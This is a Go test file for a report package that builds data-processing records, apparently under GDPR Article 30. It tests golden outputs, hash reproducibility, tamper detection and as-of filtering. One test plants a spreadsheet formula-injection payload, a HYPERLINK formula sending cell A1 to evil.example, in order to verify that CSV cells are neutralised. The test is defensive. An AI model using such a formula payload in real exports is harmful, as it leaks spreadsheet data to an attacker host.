package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/back-trace/datamap/events/taxonomy"
	"github.com/back-trace/datamap/questions"
	"github.com/back-trace/datamap/registry"
	"github.com/back-trace/datamap/report"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// fixtureAsOf is the end of 2026-11-30 UTC; one fixture observation starts
// after it and must be absent from every output.
var fixtureAsOf = mustAsOf("2026-11-30")

func mustAsOf(s string) time.Time {
	t, err := questions.ParseTime("as_of", s, true)
	if err != nil {
		panic(err)
	}
	return t
}

func fixture(t testing.TB) (*registry.Registry, []report.Observation) {
	t.Helper()
	reg, err := registry.Load("testdata/registry.yaml", taxonomy.Default())
	if err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile("testdata/observations.json")
	if err != nil {
		t.Fatal(err)
	}
	var obs []report.Observation
	if err := json.Unmarshal(raw, &obs); err != nil {
		t.Fatal(err)
	}
	return reg, obs
}

func fixtureRecord(t testing.TB, role string) *report.Record {
	t.Helper()
	reg, obs := fixture(t)
	rec, err := report.Build(reg, taxonomy.Default(), obs, report.Options{
		AsOf: fixtureAsOf, Role: role, Version: "test",
		GeneratedAt: time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	return rec
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./report -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file; if the change is intended, run go test ./report -run %s -update\n--- got:\n%s", name, t.Name(), got)
	}
}

func TestGoldenFormats(t *testing.T) {
	for _, role := range []string{report.RoleAll, report.RoleController, report.RoleProcessor} {
		for _, format := range []string{"json", "csv", "md", "html"} {
			t.Run(role+"/"+format, func(t *testing.T) {
				var a, b bytes.Buffer
				if err := report.Write(&a, fixtureRecord(t, role), format); err != nil {
					t.Fatal(err)
				}
				// Reproducible: a second build from the same inputs is byte-identical.
				if err := report.Write(&b, fixtureRecord(t, role), format); err != nil {
					t.Fatal(err)
				}
				if !bytes.Equal(a.Bytes(), b.Bytes()) {
					t.Fatal("two builds of the same record differ")
				}
				golden(t, "article30-"+role+"."+format, a.Bytes())
			})
		}
	}
}

func TestHashIgnoresGenerationTimeOnly(t *testing.T) {
	reg, obs := fixture(t)
	build := func(gen time.Time, asOf time.Time) *report.Record {
		rec, err := report.Build(reg, nil, obs, report.Options{AsOf: asOf, Version: "test", GeneratedAt: gen})
		if err != nil {
			t.Fatal(err)
		}
		return rec
	}
	a := build(time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC), fixtureAsOf)
	b := build(time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC), fixtureAsOf)
	if a.ContentSHA256 != b.ContentSHA256 || a.ContentSHA256 == "" {
		t.Errorf("hash depends on generation time: %s vs %s", a.ContentSHA256, b.ContentSHA256)
	}
	c := build(time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC), mustAsOf("2026-11-15"))
	if c.ContentSHA256 == a.ContentSHA256 {
		t.Error("hash does not depend on the as-of date")
	}
	// The JSON output verifies: decode, recompute.
	var buf bytes.Buffer
	if err := report.Write(&buf, a, "json"); err != nil {
		t.Fatal(err)
	}
	ok, err := report.VerifyJSON(buf.Bytes())
	if err != nil || !ok {
		t.Fatalf("VerifyJSON = %v, %v", ok, err)
	}
	tampered := bytes.Replace(buf.Bytes(), []byte(`"records": 9000`), []byte(`"records": 9001`), 1)
	if ok, _ := report.VerifyJSON(tampered); ok {
		t.Error("a tampered record verifies")
	}
}

func TestAsOfExcludesLaterFlows(t *testing.T) {
	rec := fixtureRecord(t, report.RoleAll)
	var buf bytes.Buffer
	if err := report.Write(&buf, rec, "json"); err != nil {
		t.Fatal(err)
	}
	// billing.contact was first seen on 2026-12-05, after the as-of date.
	if strings.Contains(buf.String(), `"billing.contact"`) {
		t.Error("a flow that started after the as-of date is in the record")
	}
	if !strings.Contains(buf.String(), `"billing.invoice"`) {
		t.Error("a flow that started before the as-of date is missing")
	}
}

// A name that starts like a formula stays text in the CSV record: a
// system named =HYPERLINK(…) must not run in an auditor's spreadsheet.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	reg, obs := fixture(t)
	evil := obs[0]
	evil.System = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	evil.Recipient = "@SUM(1+1)"
	obs = append(obs, evil)
	rec, err := report.Build(reg, taxonomy.Default(), obs, report.Options{AsOf: fixtureAsOf, Version: "test",
		GeneratedAt: time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := report.Write(&buf, rec, "csv"); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(&buf)
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if strings.Contains(cell, "HYPERLINK") {
				found = true
			}
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts like a formula", cell)
			}
		}
	}
	if !found {
		t.Fatal("the undeclared system is not in the record")
	}
}
